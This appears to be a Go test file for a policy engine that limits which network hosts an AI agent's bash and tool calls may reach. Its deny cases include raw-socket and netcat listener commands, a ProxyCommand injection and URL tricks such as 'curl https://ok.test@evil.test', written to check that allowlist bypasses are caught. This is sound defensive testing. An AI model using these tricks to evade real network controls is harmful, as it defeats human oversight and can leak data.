package policy

import (
	"testing"

	"agentctl.dev/agentctl/api/message"
	"agentctl.dev/agentctl/api/v1alpha1"
)

// knownHosts allows what reaches no host but one.
const knownHosts = `
params: {hosts: [ok.test]}
rules: [{name: known, when: "(tool.name == 'bash' ? cmd.hosts : net.hosts).all(h, h in params.hosts)", action: allow}]
default: deny`

func TestAnAllowForKnownHostsCoversNoOther(t *testing.T) {
	e := engine(t, knownHosts)
	for _, script := range []string{
		"curl https://ok.test/x", "curl -sS ok.test", "wget -O x https://ok.test/x", "git clone https://ok.test/x y", "git ls-remote https://ok.test/x", "scp ok.test:x .",
		"nc ok.test 443", "ping -c 1 ok.test", "echo x > /dev/tcp/ok.test/80", "curl user@ok.test", "curl https://ok.test:8443", "ls", "git status", "rsync ok.test:x y",
	} {
		if d := decide(t, e, bash(script)); d.Action != message.Allow {
			t.Errorf("%s: got %s by %s (%s)", script, d.Action, d.Rule, d.Message)
		}
	}
	for _, script := range []string{
		"curl https://evil.test", "curl $URL", "curl", "nc -l", "nc -l 8080", "nc -lp 8080 ok.test", "ncat --listen ok.test 1", "git push", "git push origin main", "git fetch", "git pull",
		"git fetch --all https://ok.test/x", "git clone --recurse-submodules https://ok.test/x", "git remote update", "npm install", "pip install x", "go mod download", "gh pr list",
		"aws s3 ls https://ok.test", "wget -i list.txt", "wget -i list.txt https://ok.test", "dig -f list.txt", "curl --url @list.txt https://ok.test", "python3 -m http.server",
		"curl 'evil.test?@ok.test'", "curl 'evil.test#@ok.test'", "curl 'evil.test/@ok.test'", "curl 'https://evil.test#@ok.test'", "curl https://ok.test@evil.test", "curl 'evil.test\\@ok.test'", "scp -o ProxyCommand=x a ok.test:b",
		"scp -J evil.test a ok.test:b", "curl https://ok.test; git push", "git push; curl https://ok.test", "curl https://ok.test; curl https://ok.test; npm i", "curl '[::1]:80'", "echo > /dev/tcp/$h/1",
		"tar cf evil.test:x y", "ssh ok.test", "nc 2130706433 80", "curl 'https://{ok,evil}.test'", "socat - TCP:ok.test:1", "wget https://ok.test http://evil.test",
	} {
		if d := decide(t, e, bash(script)); d.Action == message.Allow {
			t.Errorf("%s: allowed by %s", script, d.Rule)
		}
	}
}

func TestHostsOfToolsThatOpenConnections(t *testing.T) {
	fetch := Tool{Name: "fetch", Source: "exec", Risk: "R2", Effects: []v1alpha1.Effect{"Network"}, Schema: schema("url", "proxyUrl", "note"), Digest: "d"}
	c, problems := Compile(parse(t, knownHosts), []Tool{fetch})
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	e := NewEngine([]*Compiled{c}, Context{Workspace: Workspace{Root: t.TempDir()}, Tools: []Tool{fetch}})
	for name, tc := range map[string]struct {
		reason string
		args   map[string]any
		want   message.Action
	}{
		"named":        {"", map[string]any{"url": "https://ok.test/x"}, message.Allow},
		"no scheme":    {"an address may come without one", map[string]any{"url": "ok.test/x"}, message.Allow},
		"another":      {"", map[string]any{"url": "https://evil.test"}, message.Deny},
		"hidden":       {"without a scheme it is another one all the same", map[string]any{"url": "evil.test/x"}, message.Deny},
		"second":       {"every argument counts", map[string]any{"url": "https://ok.test", "proxyUrl": "evil.test:80"}, message.Deny},
		"white space":  {"programs trim what they are given", map[string]any{"url": " https://evil.test\n"}, message.Deny},
		"none":         {"where it goes is not said", map[string]any{"note": "x"}, message.Deny},
		"not readable": {"nobody knows what it is taken for", map[string]any{"url": "https://ok.test", "note": "http://[evil"}, message.Deny},
		"two in one":   {"", map[string]any{"url": "https://ok.test", "note": "https://evil.test https://ok.test"}, message.Deny},
	} {
		if d := decide(t, e, call("fetch", tc.args)); d.Action != tc.want {
			t.Errorf("%s: %s: got %s by %s (%s)", name, tc.reason, d.Action, d.Rule, d.Message)
		}
	}
}

func TestHostsThatAreNotKnown(t *testing.T) {
	for name, tc := range map[string]struct {
		reason, policy, script string
		want                   message.Action
	}{
		"denied":    {"a deny that depends on them asks", "rules: [{name: a, when: \"!cmd.hosts.all(h, h == 'ok.test')\", action: deny}]\ndefault: allow", "git push", message.Ask},
		"variable":  {"in a variable, too", "variables: [{name: h, expression: cmd.hosts}]\nrules: [{name: a, when: \"variables.h.exists(h, h == 'evil.test')\", action: deny}]\ndefault: allow", "npm i", message.Ask},
		"named":     {"what is named is known", "rules: [{name: a, when: \"net.named.exists(h, h == 'evil.test')\", action: deny}]\ndefault: allow", "git push", message.Allow},
		"as named":  {"", "rules: [{name: a, when: \"net.named.exists(h, h == 'evil.test')\", action: deny}]\ndefault: allow", "git push https://evil.test/x", message.Deny},
		"other":     {"a rule that reads no hosts is not concerned", "rules: [{name: a, when: \"cmd.network\", action: deny}]\ndefault: allow", "git push", message.Deny},
		"paths":     {"what it touches is known", "rules: [{name: a, when: \"paths.exists(p, p.op == 'write' && p.clean == '/x')\", action: deny}]\ndefault: allow", "git push", message.Allow},
		"decided":   {"where the rest decides, they do not matter", "rules: [{name: a, when: \"cmd.network || cmd.hosts.size() > 3\", action: deny}]\ndefault: allow", "git push", message.Deny},
		"some":      {"one that is named is not all", "rules: [{name: a, when: \"cmd.hosts.all(h, h == 'ok.test')\", action: allow}]\ndefault: deny", "curl https://ok.test; git push", message.Deny},
		"no others": {"without a connection there are none", "rules: [{name: a, when: \"cmd.hosts.size() == 0\", action: allow}]\ndefault: deny", "ls", message.Allow},
	} {
		if d := decide(t, engine(t, tc.policy), bash(tc.script)); d.Action != tc.want {
			t.Errorf("%s: %s: got %s by %s (%s)", name, tc.reason, d.Action, d.Rule, d.Message)
		}
	}
}

func TestTheHostOfADeclaredServerIsKnown(t *testing.T) {
	search := Tool{Name: "websearch", Builtin: "websearch", Source: "builtin", Risk: "R2", Effects: []v1alpha1.Effect{"Network"}, Schema: schema("query"), Digest: "d"}
	for server, want := range map[string]message.Action{"https://ok.test:443": message.Allow, "https://evil.test:443": message.Deny, "": message.Deny} {
		tool := search
		tool.Server = server
		c, problems := Compile(parse(t, knownHosts), []Tool{tool})
		if len(problems) > 0 {
			t.Fatal(problems)
		}
		e := NewEngine([]*Compiled{c}, Context{Workspace: Workspace{Root: t.TempDir()}, Tools: []Tool{tool}})
		if d := decide(t, e, call("websearch", map[string]any{"query": "a word"})); d.Action != want {
			t.Errorf("%s: got %s by %s (%s)", server, d.Action, d.Rule, d.Message)
		}
	}
}
